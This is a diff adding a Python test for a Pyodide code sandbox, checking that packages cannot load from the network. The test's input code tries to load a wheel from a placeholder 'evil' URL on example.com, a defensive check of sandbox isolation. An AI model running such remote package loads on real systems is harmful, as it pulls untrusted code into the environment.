@@ -372,3 +372,18 @@ def test_memory_outside_the_capped_heaps_is_stopped(fresh_sandbox: Sandbox, code
     result = fresh_sandbox.run(code)
     assert "MemoryError" in (result.error or "") or "RangeError" in (result.error or ""), result
     assert fresh_sandbox.run("'answers again'").value == "answers again"
+
+
+def test_packages_from_the_network_never_load(sandbox: Sandbox) -> None:
+    """No network, no micropip, and Pyodide's loader is asynchronous: it never finishes."""
+    first = sandbox.run(
+        "import pyodide_js\n"
+        "pyodide_js.loadPackage('https://example.com/evil-1.0-py3-none-any.whl')"
+        ".then(lambda _: print('ran'))\n"
+        "pyodide_js.loadPackage('numpy').then(lambda _: print('ran'))\n"
+        "add(1, 2)",
+        tools=[add],
+    )
+    later = sandbox.run("import sys\n'evil' in sys.modules or 'numpy' in sys.modules")
+    assert first.value == 3 and "ran" not in first.stdout + later.stdout
+    assert later.value is False
